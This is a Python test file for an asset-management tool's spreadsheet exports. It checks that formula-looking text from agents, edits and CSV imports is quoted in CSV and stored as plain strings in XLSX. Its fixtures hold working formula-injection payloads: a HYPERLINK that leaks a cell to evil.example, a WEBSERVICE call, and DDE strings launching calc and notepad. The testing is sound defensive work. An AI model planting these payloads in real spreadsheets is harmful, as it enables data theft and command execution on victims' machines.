"""Exports never carry live formulas: text from agents, site imports, asset edits and asset imports that
starts like a formula is neutralised in CSV and written as a string cell in XLSX (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from collector.reports.spreadsheet import FORMULA_STARTS, safe_cell
from tests.collector.planning.seed import add_site, api_headers, ingest, pc_facts

SERIAL = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
SITE = '=WEBSERVICE("http://evil.example/")'
SUPPLIER = "@SUM(1+1)*cmd|' /C calc'!A0"
TAG = "-2+3+cmd|' /C calc'!A0"
IMPORTED_SUPPLIER = "+1+cmd|' /C notepad'!A0"
HOSTILE = {SERIAL, SITE, SUPPLIER, TAG, IMPORTED_SUPPLIER}


def test_safe_cell_quotes_formula_starts_and_leaves_numbers_alone():
    for start in FORMULA_STARTS:
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Phường Bến Nghé") == "Phường Bến Nghé"
    assert safe_cell(-5) == -5 and safe_cell(3.5) == 3.5 and safe_cell(None) is None


def hostile_fleet(client, fleet):  # type: ignore[no-untyped-def]
    agent = add_site(fleet.engine, "X09", SITE)
    device = ingest(
        fleet.engine,
        fleet.url,
        agent,
        pc_facts("pc-evil", serial=SERIAL, disk="hdd-failing-reallocated-pending", rotational=True),
    )
    planner = api_headers(client, fleet.engine, username="planner", role="planner")
    r = client.put(
        f"/api/v1/planning/assets/{device}",
        json={"supplier": SUPPLIER, "asset_tag": TAG, "purchase_cost": 12_000_000},
        headers=planner,
    )
    assert r.status_code == 200, r.text
    # An import row for another PC brings its own formula-looking supplier.
    text = f"serial,supplier,purchase_cost\nCN0OLD001,{IMPORTED_SUPPLIER},9800000\n"
    r = client.post(
        "/api/v1/planning/assets/import",
        params={"apply": "true"},
        content=text.encode(),
        headers={**planner, "Content-Type": "text/csv"},
    )
    assert r.status_code == 200, r.text
    return planner


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(data: bytes) -> list[object]:
    wb = load_workbook(io.BytesIO(data))
    cells = []
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value in HOSTILE:
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                cells.append(cell.value)
    return cells


def test_asset_report_and_plan_exports_carry_no_formula(client, fleet):
    planner = hostile_fleet(client, fleet)
    downloads = {
        "assets": ("/api/v1/planning/assets/report", {}),
        "plan": ("/api/v1/planning/plan", {"budget": 10**9, "min_per_site": 1}),
    }
    for name, (url, params) in downloads.items():
        got = client.get(url, params={**params, "format": "csv"}, headers=planner)
        assert got.status_code == 200, (name, got.text)
        cells = csv_cells(got.content)
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], name
        # The text is still all there, behind the quote a spreadsheet shows as text.
        expected = HOSTILE if name == "assets" else {SITE, TAG}  # the failing PC is planned
        assert {"'" + v for v in expected} <= set(cells), (name, expected - {c[1:] for c in cells})

        got = client.get(url, params={**params, "format": "xlsx"}, headers=planner)
        assert got.status_code == 200, (name, got.text)
        assert expected <= set(xlsx_cells(got.content)), name


def test_control_characters_from_agents_do_not_break_the_xlsx(client, fleet):
    # A serial read from a broken DMI table carries control characters XML cannot hold.
    agent = add_site(fleet.engine, "X10", "Xã Bell")
    ingest(fleet.engine, fleet.url, agent, pc_facts("pc-bell", serial="SN\x07\x1b[31m-1"))
    planner = api_headers(client, fleet.engine, username="planner", role="planner")
    got = client.get("/api/v1/planning/assets/report", params={"format": "xlsx"}, headers=planner)
    assert got.status_code == 200, got.text
    assert "SN\ufffd\ufffd[31m-1" in xlsx_cells(got.content)
